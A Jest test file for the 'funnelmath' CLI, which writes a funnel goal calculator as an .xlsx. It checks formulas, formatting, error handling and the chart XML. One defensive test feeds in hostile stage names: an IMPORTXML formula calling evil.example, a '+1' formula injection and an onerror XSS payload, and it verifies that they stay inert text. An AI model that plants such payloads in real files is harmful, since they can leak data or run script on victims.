import { execFile } from 'node:child_process';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import type { CliIo } from '../../src/cli/command';
import { helpText, main } from '../../src/cli/main';
import { writeFileSafely } from '../../src/cli/safeWrite';
import type { Plan } from '../../src/funnel/types';
import { goalCalculatorCells } from '../../src/layout/goalCalculator';
import { examplePlan } from '../support/plans';

const repoRoot = join(__dirname, '..', '..');

/** Runs the CLI in-process with real files and captured output. */
async function cli(argv: string[]) {
  const output = { stdout: '', stderr: '' };
  const io: CliIo = {
    readFile: (path) => readFile(path, 'utf8'),
    writeFile: (path, data, options) => writeFileSafely(path, data, options),
    stdout: (text) => {
      output.stdout += text;
    },
    stderr: (text) => {
      output.stderr += text;
    },
  };
  const code = await main(argv, io);
  return { code, ...output };
}

async function planFile(plan: unknown): Promise<{ input: string; out: string }> {
  const directory = await mkdtemp(join(tmpdir(), 'funnelmath-cli-'));
  const input = join(directory, 'plan.json');
  await writeFile(input, JSON.stringify(plan));
  return { input, out: join(directory, 'goal.xlsx') };
}

async function openWorkbook(path: string) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  return workbook;
}

describe('funnelmath goal', () => {
  it('writes the goal calculator as an .xlsx of live formulas', async () => {
    const { input, out } = await planFile(examplePlan);
    const result = await cli(['goal', '--input', input, '--out', out]);
    expect(result).toEqual({
      code: 0,
      stdout: `Wrote ${out}: sheet "Goal Calculator", 5 stages.\n`,
      stderr: '',
    });

    const sheet = (await openWorkbook(out)).getWorksheet('Goal Calculator');
    const cells = goalCalculatorCells(examplePlan);
    expect(sheet?.getCell(cells.inputs.revenueTarget).value).toBe(1200000);
    expect(sheet?.getCell(cells.stages[4].needed).value).toEqual({
      formula: 'IF($B$15=1,CEILING(ROUND($B$5/$B$7,6),1),"check inputs")',
    });
    expect(sheet?.getCell(cells.inputs.revenueTarget).numFmt).toBe('"$"#,##0');
    expect(sheet?.getCell(cells.inputs.revenueTarget).fill).toEqual({
      type: 'pattern',
      pattern: 'solid',
      fgColor: { argb: 'FFFFF2CC' },
    });
    expect(sheet?.getCell(cells.inputs.revenueTarget).note).toBe(
      'The revenue to win over the period.',
    );
  });

  it('writes stage names as text, never as formulas', async () => {
    const hostile = [
      '=IMPORTXML("http://evil.example/", "//a")',
      '+1',
      '<img src=x onerror=alert(1)>',
      'Customers',
    ];
    const plan: Plan = {
      ...examplePlan,
      stages: hostile.map((name, index) =>
        index < hostile.length - 1 ? { name, conversionToNext: 0.5 } : { name },
      ),
    };
    const { input, out } = await planFile(plan);
    expect((await cli(['goal', '--input', input, '--out', out])).code).toBe(0);
    const sheet = (await openWorkbook(out)).getWorksheet('Goal Calculator');
    const names = goalCalculatorCells(plan).stages.map((stage) => sheet?.getCell(stage.name));
    expect(names.map((cell) => cell?.value)).toEqual(hostile);
    expect(names.map((cell) => cell?.type)).toEqual(hostile.map(() => ExcelJS.ValueType.String));
  });

  it('explains every bad field and writes no file', async () => {
    const { input, out } = await planFile({ ...examplePlan, averageDealSize: 0, language: 'fr' });
    const result = await cli(['goal', '--input', input, '--out', out]);
    expect(result.code).toBe(1);
    expect(result.stderr).toBe(
      `${input}: The plan has 2 problems:\n- averageDealSize is 0; enter an amount greater than 0 and at most 1000000000000\n- language is "fr"; enter "en", "zh-CN" or "zh-TW"\n`,
    );
    await expect(readFile(out)).rejects.toThrow('ENOENT');
  });

  it('says which file is not JSON', async () => {
    const { input, out } = await planFile({});
    await writeFile(input, '{ revenueTarget: 1 }');
    const result = await cli(['goal', '--input', input, '--out', out]);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(new RegExp(`^funnelmath goal: ${input} is not valid JSON: `));
  });

  it('refuses a missing or unknown option, or an unknown command, in one line (exit 2)', async () => {
    const missing = await cli(['goal', '--out', 'x.xlsx']);
    expect([missing.code, missing.stderr.split('\n')[0]]).toEqual([
      2,
      'funnelmath goal: --input is required',
    ]);
    const typo = await cli(['goal', '--inptu', 'plan.json']);
    expect([typo.code, typo.stderr.split('\n')[0]]).toEqual([
      2,
      'funnelmath goal: unknown option --inptu',
    ]);
    const unknown = await cli(['budget']);
    expect([unknown.code, unknown.stderr]).toEqual([
      2,
      'funnelmath: unknown command "budget"; run funnelmath --help for the list\n',
    ]);
    expect(await cli([])).toEqual({ code: 2, stdout: '', stderr: helpText() });
    expect(await cli(['--help'])).toEqual({ code: 0, stdout: helpText(), stderr: '' });
  });
});

describe('npx funnelmath (the package bin, from the build)', () => {
  /** Runs bin/funnelmath.js in its own Node process, as npx would. */
  const runBin = (argv: string[]) =>
    promisify(execFile)(process.execPath, [join(repoRoot, 'bin', 'funnelmath.js'), ...argv]);

  it('runs the bundled CLI', async () => {
    const { input, out } = await planFile(examplePlan);
    const { stdout } = await runBin(['goal', '--input', input, '--out', out]);
    expect(stdout).toBe(`Wrote ${out}: sheet "Goal Calculator", 5 stages.\n`);
    expect((await openWorkbook(out)).worksheets.map((sheet) => sheet.name)).toEqual([
      'Goal Calculator',
    ]);
  });

  it('exits 1 on a bad plan', async () => {
    const { input, out } = await planFile({ revenueTarget: 'a lot' });
    await expect(runBin(['goal', '--input', input, '--out', out])).rejects.toMatchObject({
      code: 1,
      stderr: expect.stringContaining('revenueTarget is "a lot"'),
    });
  });
});

describe('the funnel chart in the .xlsx', () => {
  it('is a chart part over the live stage names and needed counts, anchored beside the table', async () => {
    const { input, out } = await planFile(examplePlan);
    await cli(['goal', '--input', input, '--out', out]);
    const zip = await JSZip.loadAsync(await readFile(out));
    const chart = await zip.file('xl/charts/funnelmathChart1.xml')?.async('string');
    expect(chart).toContain('<c:barDir val="bar"/>');
    expect(chart).toContain('<c:f>&#39;Goal Calculator&#39;!$A$19:$A$23</c:f>');
    expect(chart).toContain('<c:f>&#39;Goal Calculator&#39;!$C$19:$C$23</c:f>');
    expect(chart).toContain('<a:t>Funnel: needed per stage</a:t>');
    const drawing = await zip.file('xl/drawings/funnelmathDrawing1.xml')?.async('string');
    // Anchored at G4 (zero-based column 6, row 3), as the layout's chart spec says, 4 px
    // (38,100 EMU) in from its corner so no page edge runs along the chart's border.
    expect(drawing).toContain(
      '<xdr:from><xdr:col>6</xdr:col><xdr:colOff>38100</xdr:colOff><xdr:row>3</xdr:row><xdr:rowOff>38100</xdr:rowOff></xdr:from>',
    );
    const sheet = await zip.file('xl/worksheets/sheet1.xml')?.async('string');
    expect(sheet).toMatch(/<drawing r:id="rId\d+"\/><legacyDrawing /);
    const types = await zip.file('[Content_Types].xml')?.async('string');
    expect(types).toContain('PartName="/xl/charts/funnelmathChart1.xml"');
  });
});
